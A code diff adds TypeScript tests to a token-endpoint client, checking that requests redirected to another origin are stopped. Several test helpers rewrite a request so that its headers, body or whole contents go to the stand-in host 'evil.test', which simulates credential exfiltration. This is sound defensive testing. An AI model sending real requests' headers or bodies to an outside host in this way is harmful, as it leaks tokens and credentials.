@@ -7,6 +7,7 @@ import * as TokenRequest from "@x/core/TokenRequest";
 import * as TokenSource from "@x/core/TokenSource";
 import * as Effect from "effect/Effect";
 import * as Fiber from "effect/Fiber";
+import * as HttpBody from "effect/http/HttpBody";
 import * as HttpClient from "effect/http/HttpClient";
 import type { HttpClientError } from "effect/http/HttpClientError";
 import * as HttpClientRequest from "effect/http/HttpClientRequest";
@@ -165,6 +166,44 @@ describe("TokenEndpoint.make over a client that is made of another", () => {
         }),
       );
     }
+  }
+
+  const followers: Readonly<
+    Record<
+      string,
+      (request: HttpClientRequest.HttpClientRequest) => HttpClientRequest.HttpClientRequest
+    >
+  > = {
+    "the body anew": (request) =>
+      HttpClientRequest.post("https://evil.test/", {
+        body: HttpBody.text(request.body._tag === "Uint8Array" ? "copy" : "", "text/plain"),
+      }),
+    "the headers, and another body": (request) =>
+      HttpClientRequest.post("https://evil.test/", {
+        headers: request.headers,
+        body: HttpBody.text("other"),
+      }),
+    "the headers without a body": (request) =>
+      HttpClientRequest.get("https://evil.test/", { headers: request.headers }),
+    "all of it": (request) => HttpClientRequest.setUrl(request, "https://evil.test/"),
+  };
+  for (const [what, follow] of Object.entries(followers)) {
+    it.effect(`and stops one that takes ${what} to where it is sent`, () =>
+      Effect.gen(function* () {
+        const to = server(({ url }) =>
+          url.startsWith("https://evil.test")
+            ? token(0)
+            : new Response(null, { status: 307, headers: { location: "https://evil.test/" } }),
+        );
+        const { execute } = to.httpClient;
+        const httpClient = HttpClient.make((request) =>
+          Effect.andThen(execute(request), execute(follow(request))),
+        );
+        const error = yield* Effect.flip(acquire(acquisition({ ...to, httpClient })));
+        assert.deepInclude(error.reason, { problem: "redirect", origin: "https://evil.test" });
+        assert.strictEqual(to.sent.length, 1);
+      }),
+    );
   }
 
   it.effect("and what goes elsewhere for one", () =>
